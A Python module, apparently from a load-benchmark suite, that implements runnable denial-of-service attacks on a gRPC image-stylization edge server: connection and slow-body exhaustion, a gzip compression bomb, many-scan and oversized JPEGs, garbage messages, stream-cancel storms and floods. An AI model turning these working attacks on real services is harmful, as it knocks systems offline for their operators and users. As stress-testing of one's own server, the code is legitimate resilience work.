"""Attacks on an edge, as programs: ``python -m benchmarks.edge_load.attacks NAME ADDRESS TOKEN``.

The attacker has a valid token, or needs none. An attack lasts as long as `--seconds` says, whatever the edge
does. ``mixed`` runs all of them in turn.
"""

from __future__ import annotations

import argparse
import socket
import ssl
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import suppress
from pathlib import Path
from typing import Any, Final

import cv2
import grpc
import numpy as np
from numpy.typing import NDArray
from tritonclient.grpc import service_pb2

from edge_triton.client.jpeg import encode_jpeg

SECONDS: Final = 10.0
INFER: Final = "/inference.GRPCInferenceService/ModelInfer"
FRAME: Final = np.random.default_rng(0).integers(0, 256, (288, 512, 3)).astype(np.uint8)
SMALL: Final = np.full((8, 8, 3), 100, np.uint8)
CODE_VALUE: Final = 0.1
GREEDY_REQUESTS: Final = 8  # as many as an edge admits of one client
_PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


class Target:
    """The edge under attack.

    Args:
        address: ``HOST:PORT``.
        token: The attacker's token.
        ca: Authority of the edge's certificate; None = no TLS.
        code: Length of a style code.
        seconds: How long to attack.
    """

    def __init__(
        self, address: str, token: str, *, ca: Path | None = None, code: int = 3, seconds: float = SECONDS
    ) -> None:
        self.address, self.token, self.ca, self.code = address, token, ca, code
        self.header = [("authorization", f"Bearer {token}")]
        self._until = time.monotonic() + seconds

    @property
    def is_on(self) -> bool:
        """Whether to go on."""
        return time.monotonic() < self._until

    def channel(self) -> Any:
        """Return a new gRPC channel, with a connection that no other channel shares."""
        options = [("grpc.max_send_message_length", -1), ("grpc.use_local_subchannel_pool", 1)]
        if self.ca is None:
            return grpc.insecure_channel(self.address, options)
        return grpc.secure_channel(self.address, grpc.ssl_channel_credentials(self.ca.read_bytes()), options)

    def connect(self) -> socket.socket:
        """Return a connection that speaks HTTP/2, with TLS if the edge does, and has sent no call."""
        host, _, port = self.address.rpartition(":")
        plain = socket.create_connection((host, int(port)), timeout=5)
        if self.ca is None:
            plain.sendall(_PREFACE)
            return plain
        context = ssl.create_default_context(cafile=str(self.ca))
        context.set_alpn_protocols(["h2"])
        return context.wrap_socket(plain, server_hostname=host)

    def request(self, frame: NDArray[np.uint8] = SMALL, jpeg: bytes = b"") -> bytes:
        """Return a valid request for a frame, or for a JPEG instead."""
        message = service_pb2.ModelInferRequest(model_name="stylizer")
        if jpeg:
            message.inputs.add(name="frame_jpeg", datatype="BYTES", shape=[1])
            message.raw_input_contents.append(len(jpeg).to_bytes(4, "little") + jpeg)
        else:
            message.inputs.add(name="frame", datatype="UINT8", shape=[1, *frame.shape])
            message.raw_input_contents.append(frame.tobytes())
        message.inputs.add(name="style_code", datatype="FP32", shape=[1, self.code])
        message.raw_input_contents.append(np.full(self.code, CODE_VALUE, np.float32).tobytes())
        message.inputs.add(name="r", datatype="FP32", shape=[1])
        message.raw_input_contents.append(np.ones(1, np.float32).tobytes())
        data: bytes = message.SerializeToString()
        return data


def connections(target: Target) -> None:
    """Hold a thousand TLS connections without a token, and replace those that are closed."""
    held: list[socket.socket] = []
    while target.is_on:
        with suppress(OSError):
            held.append(target.connect())
        if len(held) > 1000:
            held.pop(0).close()


def silent_connections(target: Target) -> None:
    """Hold a thousand connections that never say a word."""
    host, _, port = target.address.rpartition(":")
    held: list[socket.socket] = []
    while target.is_on:
        with suppress(OSError):
            held.append(socket.create_connection((host, int(port)), timeout=5))
        if len(held) > 1000:
            held.pop(0).close()


def empty_outputs(target: Target) -> None:
    """Send eight million empty outputs: 16 MB of message, or 16 kB with gzip."""
    body = target.request() + b"\x32\x00" * 8_000_000
    with target.channel() as channel:
        call = channel.unary_unary(INFER)
        while target.is_on:
            for compression in (grpc.Compression.Gzip, None):
                with suppress(grpc.RpcError):
                    call(body, timeout=20, metadata=target.header, compression=compression)


def many_scans(target: Target) -> None:
    """Send progressive JPEGs of as many scans as an edge decodes, and give each up at once."""
    flags = [cv2.IMWRITE_JPEG_PROGRESSIVE, 1]
    data = cv2.imencode(".jpg", np.zeros((1440, 1440, 3), np.uint8), flags)[1].tobytes()
    last = data[data.rfind(b"\xff\xda") : -2]
    flood(target, target.request(jpeg=data[:-2] + last * (64 - data.count(b"\xff\xda")) + data[-2:]), 0.2)


def large_jpegs(target: Target) -> None:
    """Send the largest images that an edge decodes, in a few kilobytes each."""
    flood(target, target.request(jpeg=encode_jpeg(np.zeros((4600, 4600, 3), np.uint8), 50)), 0.5)


def thin_jpegs(target: Target) -> None:
    """Send JPEGs of one row."""
    flood(target, target.request(jpeg=encode_jpeg(np.zeros((1, 65500, 3), np.uint8), 50)), 20)


def thin_frames(target: Target) -> None:
    """Send raw frames of one row."""
    flood(target, target.request(np.zeros((1, 1_000_000, 3), np.uint8)), 20)


def bordering_frames(target: Target) -> None:
    """Send the thinnest frames that an edge stylizes."""
    flood(target, target.request(np.zeros((14, 504, 3), np.uint8)), 20)


def garbage(target: Target) -> None:
    """Send messages that are not protobuf."""
    with target.channel() as channel:
        call = channel.unary_unary(INFER)
        while target.is_on:
            with suppress(grpc.RpcError):
                call(b"\xff" * 200, timeout=5, metadata=target.header)


def cancelled_streams(target: Target) -> None:
    """Open calls and cancel them at once, as fast as possible."""
    message = target.request(np.zeros((256, 256, 3), np.uint8))
    with target.channel() as channel:
        call = channel.unary_unary(INFER)
        while target.is_on:
            for one in [call.future(message, metadata=target.header) for _ in range(50)]:
                one.cancel()


def slow_bodies(target: Target) -> None:
    """Keep every slot that a client can have, without sending a body."""

    def never() -> Iterator[bytes]:
        time.sleep(SECONDS)
        yield b""

    with target.channel() as channel:
        call = channel.stream_unary(INFER)
        while target.is_on:
            calls = [call.future(never(), metadata=target.header) for _ in range(32)]
            time.sleep(2)
            for one in calls:
                one.cancel()


def greedy(target: Target) -> None:
    """Send ordinary frames of a video without pause, with as many requests at once as a client may have."""
    flood(target, target.request(FRAME), 60, threads=GREEDY_REQUESTS, pause_s=0.1)


def greedy_large(target: Target) -> None:
    """Send frames of four times as many pixels."""
    flood(target, target.request(np.tile(FRAME, (2, 2, 1))), 60, threads=GREEDY_REQUESTS, pause_s=0.1)


def health_connections(target: Target) -> None:
    """Hold two hundred connections to the health server, and send nothing; ADDRESS is its own."""
    silent_connections(target)


def flood(target: Target, body: bytes, timeout_s: float, *, threads: int = 16, pause_s: float = 0.0) -> None:
    """Send requests from a number of threads at once, with a pause after each that is refused."""

    def send() -> None:
        with target.channel() as channel:
            call = channel.unary_unary(INFER)
            while target.is_on:
                try:
                    call(body, timeout=timeout_s, metadata=target.header)
                except grpc.RpcError:
                    time.sleep(pause_s)

    running = [threading.Thread(target=send) for _ in range(threads)]
    for thread in running:
        thread.start()
    for thread in running:
        thread.join()


ATTACKS: Final[dict[str, Callable[[Target], None]]] = {
    attack.__name__: attack
    for attack in (
        connections,
        silent_connections,
        empty_outputs,
        many_scans,
        large_jpegs,
        thin_jpegs,
        thin_frames,
        bordering_frames,
        garbage,
        cancelled_streams,
        slow_bodies,
        health_connections,
    )
}

GREED: Final = {attack.__name__: attack for attack in (greedy, greedy_large)}
_TURN_S: Final = 5.0


def mixed(target: Target) -> None:
    """Run every attack on the gateway in turn."""
    attacks = [attack for attack in ATTACKS.values() if attack is not health_connections]
    number = 0
    while target.is_on:
        turn = Target(target.address, target.token, ca=target.ca, code=target.code, seconds=_TURN_S)
        attacks[number % len(attacks)](turn)
        number += 1


def main() -> None:
    """Run an attack."""
    known = {**ATTACKS, **GREED, "mixed": mixed}
    parser = argparse.ArgumentParser()
    parser.add_argument("name", choices=known)
    parser.add_argument("address")
    parser.add_argument("token")
    parser.add_argument("--ca", type=Path)
    parser.add_argument("--code", type=int, default=3)
    parser.add_argument("--seconds", type=float, default=SECONDS)
    chosen = parser.parse_args()
    target = Target(chosen.address, chosen.token, ca=chosen.ca, code=chosen.code, seconds=chosen.seconds)
    known[chosen.name](target)


if __name__ == "__main__":
    main()
